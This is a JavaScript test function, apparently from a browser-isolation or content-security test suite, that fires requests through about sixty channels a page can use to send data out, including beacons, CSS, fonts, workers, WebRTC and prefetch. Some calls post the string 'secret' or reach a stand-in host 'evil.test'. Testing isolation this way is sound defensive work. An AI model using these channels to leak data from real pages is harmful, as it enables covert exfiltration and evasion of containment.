function waysOut(to, at, only) {
  // Every way we know in which a page can send something. Each is given the URL that it is to reach.
  const body = document.body;
  const add = (tag, attributes, into = body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    into.append(element);
    return element;
  };
  const frame = (name, html) => add('iframe', { name, srcdoc: html });
  const style = (css) => add('style', {}).append(css);
  const script = (type, text) => {
    const element = document.createElement('script');
    element.type = type;
    element.textContent = text;
    body.append(element);
  };
  const keep = (thing) => (window.kept ??= []).push(thing); // what nothing refers to may be gone before it has begun
  const run = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
  const ways = {
    fetch: (url) => fetch(url),
    fetch_no_cors: (url) => fetch(url, { mode: 'no-cors' }),
    fetch_post: (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' }),
    fetch_keepalive: (url) => fetch(url, { mode: 'no-cors', keepalive: true }),
    xhr: (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    },
    beacon: (url) => navigator.sendBeacon(url, 'secret'),
    form_get: (url) => frame('form_get', `<form action="${url}"><input name=a value=b></form><script>document.forms[0].submit()<\/script>`),
    form_post: (url) => frame('form_post', `<form method=post action="${url}"><input name=a value=b></form><script>document.forms[0].submit()<\/script>`),
    image: (url) => (new Image().src = url),
    srcset: (url) => add('img', { srcset: `${url} 1x` }),
    image_button: (url) => add('input', { type: 'image', src: url }),
    css_background: (url) => (add('div', { style: 'width:9px;height:9px' }).style.backgroundImage = `url(${url})`),
    css_import: (url) => style(`@import url(${url});`),
    css_content: (url) => style(`body::after { content: url(${url}) }`),
    css_cursor: (url) => style(`body { cursor: url(${url}), auto }`),
    stylesheet: (url) => add('link', { rel: 'stylesheet', href: url }),
    font: (url) => new FontFace('out', `url(${url})`).load(),
    script: (url) => add('script', { src: url }),
    module: (url) => import(url),
    module_preload: (url) => add('link', { rel: 'modulepreload', href: url }),
    icon: (url) => add('link', { rel: 'icon', href: url }, document.head),
    iframe: (url) => add('iframe', { src: url }),
    frame_redirect: (url) => add('iframe', { src: `/redirect?to=${encodeURIComponent(url)}` }),
    fetch_redirect: (url) => fetch(`/redirect?to=${encodeURIComponent(url)}`, { mode: 'no-cors' }),
    meta_refresh: (url) => frame('meta', `<meta http-equiv=refresh content="0;url=${url}">`),
    location: (url) => frame('location', `<script>location = "${url}"<\/script>`),
    object: (url) => add('object', { data: url, type: 'text/html' }),
    embed: (url) => add('embed', { src: url, type: 'text/html' }),
    pdf: (url) => add('embed', { src: url, type: 'application/pdf' }),
    video: (url) => add('video', { src: url, preload: 'auto' }),
    audio: (url) => add('audio', { src: url, preload: 'auto' }),
    poster: (url) => add('video', { poster: url }),
    track: (url) => (add('track', { src: url, kind: 'subtitles', default: '' }, add('video', { src: '/none', crossorigin: '' })).track.mode = 'showing'),
    svg_image: (url) => (body.insertAdjacentHTML('beforeend', `<svg><image href="${url}" width=9 height=9 /></svg>`)),
    svg_in_data: (url) => add('iframe', { src: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}" width="9" height="9"/></svg>`)}` }),
    prefetch: (url) => add('link', { rel: 'prefetch', href: url }),
    preload: (url) => add('link', { rel: 'preload', as: 'fetch', href: url }),
    prerender: (url) => add('link', { rel: 'prerender', href: url }),
    speculation: (url) => script('speculationrules', JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] })),
    worker: (url) => keep(new Worker(run(`fetch('${url}', { mode: 'no-cors' })`))),
    worker_import: (url) => keep(new Worker(run(`importScripts('${url}')`))),
    shared_worker: (url) => new SharedWorker(run(`fetch('${url}', { mode: 'no-cors' })`)),
    service_worker: (url) => navigator.serviceWorker?.register(`/service-worker?to=${encodeURIComponent(url)}`),
    event_source: (url) => new EventSource(url),
    csp_report: (url) => add('iframe', { src: `/reporting?to=${encodeURIComponent(url)}` }),
    web_socket: (url) => new WebSocket(url.replace('http', 'ws')),
    worker_socket: (url) => keep(new Worker(run(`new WebSocket('${url.replace('http', 'ws')}')`))),
    // Last: they open other tabs, and Chrome slows down a page that is not in front.
    link: (url) => add('a', { href: url, target: '_blank' }).click(),
    link_noopener: (url) => add('a', { href: url, target: '_blank', rel: 'noopener' }).click(),
    ping: (url) => add('a', { href: '#ping', ping: url }).click(),
    download: (url) => add('a', { href: url, download: '' }).click(),
    window_open: (url) => window.open(url),
  };
  // These send no path: what arrives is told by the port.
  const bare = {
    preconnect: (url) => add('link', { rel: 'preconnect', href: url }),
    stun: (_, port) => peer([{ urls: `stun:127.0.0.1:${port}` }]),
    turn_tcp: (_, port) => peer([{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'a', credential: 'b' }]),
    web_transport: (_, port) => new WebTransport(`https://127.0.0.1:${port}/`),
    https: (_, port) => fetch(`https://127.0.0.1:${port}/`, { mode: 'no-cors' }),
    wss: (_, port) => new WebSocket(`wss://127.0.0.1:${port}/`),
    by_number: (_, port) => fetch(`http://2130706433:${port}/`, { mode: 'no-cors' }),
    ipv6: (_, port) => fetch(`http://[::ffff:127.0.0.1]:${port}/`, { mode: 'no-cors' }),
    localhost: (_, port) => fetch(`http://localhost:${port}/`, { mode: 'no-cors' }),
  };
  const peer = (iceServers) => {
    const connection = new RTCPeerConnection({ iceServers });
    keep(connection);
    connection.createDataChannel('out');
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  };
  const tried = [];
  const attempt = (name, way, ...where) => {
    if (only && !only.includes(name)) return;
    tried.push(name);
    try {
      Promise.resolve(way(...where)).catch(() => {});
    } catch {}
  };
  for (const [name, way] of Object.entries(ways)) attempt(name, way, `${to}/${name}`);
  for (const [name, way] of Object.entries(bare)) attempt(name, way, `http://evil.test:${at[name]}`, at[name]);
  return tried;
}
